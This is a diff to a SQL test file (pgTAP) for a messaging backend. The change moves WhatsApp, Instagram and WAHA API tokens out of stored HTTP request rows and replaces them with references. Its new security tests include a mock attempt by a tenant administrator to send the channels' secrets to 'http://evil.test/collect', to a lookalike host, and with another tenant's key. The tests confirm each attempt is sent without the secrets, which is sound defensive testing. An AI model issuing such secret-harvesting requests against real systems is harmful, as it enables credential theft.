@@ -5,7 +5,7 @@
 -- the dispatcher would), the Graph and WAHA retry classification, and media
 -- downloads.
 BEGIN;
-SELECT plan(93);
+SELECT plan(106);
 
 SELECT ventros.create_tenant('send_t', 'Send');
 SET LOCAL ventros.tenant = 'send_t';
@@ -26,6 +26,14 @@ END
 $$;
 CREATE FUNCTION pg_temp.req(message uuid) RETURNS ventros.http_requests LANGUAGE sql AS $$
     SELECT * FROM ventros.http_requests WHERE correlation_id = message AND purpose = 'message.send'
+$$;
+-- the reference a stored request holds instead of a channel's secret
+CREATE FUNCTION pg_temp.ref(channel uuid, key text) RETURNS text LANGUAGE sql AS $$
+    SELECT '{channel_secret:' || channel || ':' || key || '}'
+$$;
+-- the headers the dispatcher sends for an attempt (the purpose's preparer)
+CREATE FUNCTION pg_temp.sent(req uuid) RETURNS jsonb LANGUAGE sql AS $$
+    SELECT ventros.http_attempt_headers(r) FROM ventros.http_requests r WHERE r.id = req
 $$;
 CREATE FUNCTION pg_temp.body(message uuid) RETURNS jsonb LANGUAGE sql AS $$
     SELECT convert_from(body, 'UTF8')::jsonb FROM ventros.http_requests WHERE correlation_id = message AND purpose = 'message.send'
@@ -67,8 +75,11 @@ RESET ROLE;
 SELECT is((SELECT status FROM s1), 'queued', 'an agent''s reply is queued');
 SELECT results_eq($$SELECT method, url, headers, status, retry_policy FROM pg_temp.req((SELECT id FROM s1))$$,
                   $$VALUES ('POST', 'http://waha.test:3000/api/sendText',
-                            '{"Content-Type": "application/json", "X-Api-Key": "k1"}'::jsonb, 'pending', 'waha')$$,
-                  'WAHA text: POST /api/sendText with X-Api-Key, in the same transaction (even for an agent)');
+                            jsonb_build_object('Content-Type', 'application/json', 'X-Api-Key', pg_temp.ref(pg_temp.ch('waha'), 'api_key')),
+                            'pending', 'waha')$$,
+                  'WAHA text: POST /api/sendText with X-Api-Key (a reference to the key on the row), in the same transaction (even for an agent)');
+SELECT is(pg_temp.sent((pg_temp.req((SELECT id FROM s1))).id), '{"Content-Type": "application/json", "X-Api-Key": "k1"}',
+          'the dispatcher sends the channel''s API key, put in for the attempt');
 SELECT is(pg_temp.body((SELECT id FROM s1)),
           '{"session": "acme-sales", "chatId": "5511999998888@c.us", "text": "Olá!", "reply_to": null, "linkPreview": true}',
           'WAHA text body: session, chatId @c.us, text');
@@ -123,8 +134,11 @@ CREATE TEMP TABLE w1 AS SELECT * FROM ventros.send_message(pg_temp.ch('wa'), pg_
                                                            reply_to_id => pg_temp.inb('sheena'));
 SELECT results_eq($$SELECT method, url, headers, retry_policy FROM pg_temp.req((SELECT id FROM w1))$$,
                   $$VALUES ('POST', 'http://graph.test/v23.0/106540352242922/messages',
-                            '{"Authorization": "Bearer tok", "Content-Type": "application/json"}'::jsonb, 'graph')$$,
-                  'Cloud API: POST /<ver>/<phone_number_id>/messages with the Bearer token, retry policy graph');
+                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token'),
+                                               'Content-Type', 'application/json'), 'graph')$$,
+                  'Cloud API: POST /<ver>/<phone_number_id>/messages with the Bearer token (a reference on the row), retry policy graph');
+SELECT is(pg_temp.sent((pg_temp.req((SELECT id FROM w1))).id), '{"Authorization": "Bearer tok", "Content-Type": "application/json"}',
+          'the dispatcher sends the channel''s token, put in for the attempt');
 SELECT is(pg_temp.body((SELECT id FROM w1)),
           '{"messaging_product": "whatsapp", "recipient_type": "individual", "to": "16505551234", "type": "text",
             "text": {"preview_url": false, "body": "Yes, it comes in blue."}, "context": {"message_id": "wamid.IN1"}}',
@@ -231,9 +245,11 @@ SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('wa'), pg_temp.who('old'
 CREATE TEMP TABLE i1 AS SELECT * FROM ventros.send_message(pg_temp.ch('ig'), pg_temp.who('igu'), 'Temos sim!', pg_temp.ag());
 SELECT results_eq($$SELECT url, headers, pg_temp.body((SELECT id FROM i1)) FROM pg_temp.req((SELECT id FROM i1))$$,
                   $$VALUES ('http://graph.test/v23.0/17841400000000000/messages',
-                            '{"Authorization": "Bearer igtok", "Content-Type": "application/json"}'::jsonb,
+                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('ig'), 'access_token'),
+                                               'Content-Type', 'application/json'),
                             '{"recipient": {"id": "1234567890123456"}, "messaging_type": "RESPONSE", "message": {"text": "Temos sim!"}}'::jsonb)$$,
                   'Instagram text: /<ver>/<ig_account_id>/messages, recipient IGSID');
+SELECT is(pg_temp.sent((pg_temp.req((SELECT id FROM i1))).id)->>'Authorization', 'Bearer igtok', 'sent with the Instagram token');
 CREATE TEMP TABLE f1 AS SELECT * FROM ventros.send_message(pg_temp.ch('fb'), pg_temp.who('fbu'), 'ignored caption', pg_temp.ag(),
                                                            content_type => 'document', media_url => 'https://files.example.com/a.pdf');
 SELECT results_eq($$SELECT url, pg_temp.body((SELECT id FROM f1)) FROM pg_temp.req((SELECT id FROM f1))$$,
@@ -329,9 +345,11 @@ SET LOCAL ROLE ventros_agent;
 CREATE TEMP TABLE md AS SELECT ventros.request_media_download((SELECT id FROM mi)) AS id;
 RESET ROLE;
 SELECT results_eq($$SELECT method, url, headers, purpose, body, max_response_size FROM ventros.http_requests WHERE id = (SELECT id FROM md)$$,
-                  $$VALUES ('GET', 'http://waha.test:3000/api/files/acme-sales/AC94.jpeg', '{"X-Api-Key": "k1"}'::jsonb,
+                  $$VALUES ('GET', 'http://waha.test:3000/api/files/acme-sales/AC94.jpeg',
+                            jsonb_build_object('X-Api-Key', pg_temp.ref(pg_temp.ch('waha'), 'api_key')),
                             'media.download', NULL::bytea, ventros.setting_number('ventros.media_max_size')::integer)$$,
-                  'WAHA media: GET its URL on the WAHA host with X-Api-Key, allowed ventros.media_max_size bytes');
+                  'WAHA media: GET its URL on the WAHA host with X-Api-Key (a reference on the row), allowed ventros.media_max_size bytes');
+SELECT is(pg_temp.sent((SELECT id FROM md)), '{"X-Api-Key": "k1"}', 'sent with the API key');
 SELECT pg_temp.answer((SELECT id FROM md), 200, 'JPEGBYTES', E'Content-Type: image/jpeg\r\nContent-Length: 9');
 SELECT results_eq($$SELECT content_type, size, sha256, data FROM ventros.message_media WHERE message_id = (SELECT id FROM mi)$$,
                   $$VALUES ('image/jpeg', 9::bigint, encode(sha256('JPEGBYTES'), 'hex'), 'JPEGBYTES'::bytea)$$,
@@ -349,15 +367,20 @@ CREATE TEMP TABLE mw AS SELECT * FROM ventros.receive_message(pg_temp.ch('wa'), 
     media_url => 'https://lookaside.fbsbx.com/x', metadata => '{"media_id": "1003383421387256"}');
 CREATE TEMP TABLE ml AS SELECT ventros.request_media_download((SELECT id FROM mw)) AS id;
 SELECT results_eq($$SELECT method, url, headers, purpose, max_response_size FROM ventros.http_requests WHERE id = (SELECT id FROM ml)$$,
-                  $$VALUES ('GET', 'http://graph.test/v23.0/1003383421387256', '{"Authorization": "Bearer tok"}'::jsonb, 'media.lookup',
+                  $$VALUES ('GET', 'http://graph.test/v23.0/1003383421387256',
+                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token')), 'media.lookup',
                             NULL::integer)$$,
-                  'Cloud API media, step 1: GET /<ver>/<media_id> with the Bearer token');
+                  'Cloud API media, step 1: GET /<ver>/<media_id> with the Bearer token (a reference on the row)');
+SELECT is(pg_temp.sent((SELECT id FROM ml)), '{"Authorization": "Bearer tok"}', 'the lookup is sent with the token');
 SELECT pg_temp.answer((SELECT id FROM ml), 200, jsonb_build_object('messaging_product', 'whatsapp', 'url', 'http://graph.test/media/1003383421387256?ext=1',
     'mime_type', 'image/jpeg', 'sha256', encode(sha256('PNGDATA'), 'hex'), 'file_size', '7', 'id', '1003383421387256')::text);
 SELECT results_eq($$SELECT method, url, headers, max_response_size FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM mw) AND purpose = 'media.download'$$,
-                  $$VALUES ('GET', 'http://graph.test/media/1003383421387256?ext=1', '{"Authorization": "Bearer tok"}'::jsonb,
+                  $$VALUES ('GET', 'http://graph.test/media/1003383421387256?ext=1',
+                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token')),
                             ventros.setting_number('ventros.media_max_size')::integer)$$,
-                  'step 2 is queued at once: GET the returned URL with the same Bearer');
+                  'step 2 is queued at once: GET the returned URL with the same Bearer (reference)');
+SELECT is(pg_temp.sent((SELECT id FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM mw) AND purpose = 'media.download')),
+          '{"Authorization": "Bearer tok"}', 'the download is sent with the token');
 SELECT pg_temp.answer((SELECT id FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM mw) AND purpose = 'media.download'), 200, 'PNGDATA',
                       'Content-Type: image/jpeg');
 SELECT results_eq($$SELECT size, sha256 FROM ventros.message_media WHERE message_id = (SELECT id FROM mw)$$,
@@ -380,8 +403,10 @@ CREATE TEMP TABLE ts AS SELECT ventros.sync_whatsapp_templates(pg_temp.ch('wa'))
 RESET ROLE;
 SELECT results_eq($$SELECT method, url, headers, purpose, retry_policy FROM ventros.http_requests WHERE id = (SELECT id FROM ts)$$,
                   $$VALUES ('GET', 'http://graph.test/v23.0/102290129340398/message_templates?fields=id,name,language,status,category,parameter_format,components&limit=100',
-                            '{"Authorization": "Bearer tok"}'::jsonb, 'template.sync', 'graph')$$,
-                  'template sync: GET /<ver>/<waba_id>/message_templates with the Bearer token');
+                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token')),
+                            'template.sync', 'graph')$$,
+                  'template sync: GET /<ver>/<waba_id>/message_templates with the Bearer token (a reference on the row)');
+SELECT is(pg_temp.sent((SELECT id FROM ts)), '{"Authorization": "Bearer tok"}', 'the sync is sent with the token');
 SELECT pg_temp.answer((SELECT id FROM ts), 200, '{"data": [
     {"name": "order_update", "language": "pt_BR", "status": "PAUSED", "category": "UTILITY", "id": "111",
      "components": [{"type": "BODY", "text": "Olá {{1}}"}]},
@@ -404,6 +429,41 @@ SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_
 SET LOCAL ROLE ventros_admin;
 SELECT throws_ok(format('SELECT ventros.sync_whatsapp_templates(%L)', pg_temp.ch('waha')), '22023', NULL, 'no template sync on WAHA');
 RESET ROLE;
+
+-- ---- channel tokens are never on a row a tenant may read ----------------------------
+-- Every request above (sends on WAHA, Cloud API, Instagram, Messenger, media
+-- lookups and downloads, template sync) as the tenant's administrator sees it.
+SET LOCAL ROLE ventros_admin;
+SELECT is((SELECT count(*)::int FROM ventros.http_requests r
+            WHERE row_to_json(r)::text LIKE ANY (ARRAY['%"k1"%', '%Bearer tok"%', '%Bearer igtok"%', '%Bearer pagetok"%'])),
+          0, 'no http_requests row a tenant administrator reads holds a channel token');
+SELECT ok((SELECT count(*) FROM ventros.http_requests r WHERE r.headers::text LIKE '%{channel\_secret:%') >= 6,
+          'the rows hold references instead');
+-- An administrator may write a request: one to another host, naming the
+-- channels' secrets, is sent without them.
+CREATE TEMP TABLE steal AS SELECT ventros.enqueue_http_request('http://evil.test/collect', 'POST',
+    jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token'),
+                       'X-Api-Key', pg_temp.ref(pg_temp.ch('waha'), 'api_key')), NULL, 'message.send', NULL) AS id;
+RESET ROLE;
+SELECT is(pg_temp.sent((SELECT id FROM steal)), '{"Authorization": "Bearer ", "X-Api-Key": ""}',
+          'a request to another host gets no channel secret');
+SET LOCAL ROLE ventros_admin;
+UPDATE ventros.http_requests SET url = 'http://graph.test.evil.test/v23.0/x' WHERE id = (SELECT id FROM steal);
+RESET ROLE;
+SELECT is(pg_temp.sent((SELECT id FROM steal))->>'Authorization', 'Bearer ', 'nor one whose host only starts like the provider''s');
+-- another tenant's channel: its secret never goes into this tenant's request
+SELECT ventros.create_tenant('send_o', 'Other');
+SET LOCAL ventros.tenant = 'send_o';
+CREATE TEMP TABLE och AS SELECT (ventros.create_channel('Other WAHA', 'waha', config => '{"base_url": "http://waha.test:3000/", "session": "o", "api_key": "otherkey"}')).id;
+GRANT SELECT ON och TO PUBLIC;
+SET LOCAL ventros.tenant = 'send_t';
+SET LOCAL ROLE ventros_admin;
+CREATE TEMP TABLE borrow AS SELECT ventros.enqueue_http_request('http://waha.test:3000/api/sendText', 'POST',
+    jsonb_build_object('X-Api-Key', pg_temp.ref((SELECT id FROM och), 'api_key')), NULL, 'message.send', NULL) AS id;
+RESET ROLE;
+SELECT is(pg_temp.sent((SELECT id FROM borrow)), '{"X-Api-Key": ""}', 'another tenant''s channel secret is not put in');
+SELECT is((SELECT preparer::text FROM ventros.http_request_preparers WHERE purpose = 'contact.profile'),
+          'ventros.channel_request_headers(ventros.http_requests)', 'profile lookups (sql/89_inbound_meta.sql) are prepared the same way');
 
 SELECT * FROM finish();
 ROLLBACK;
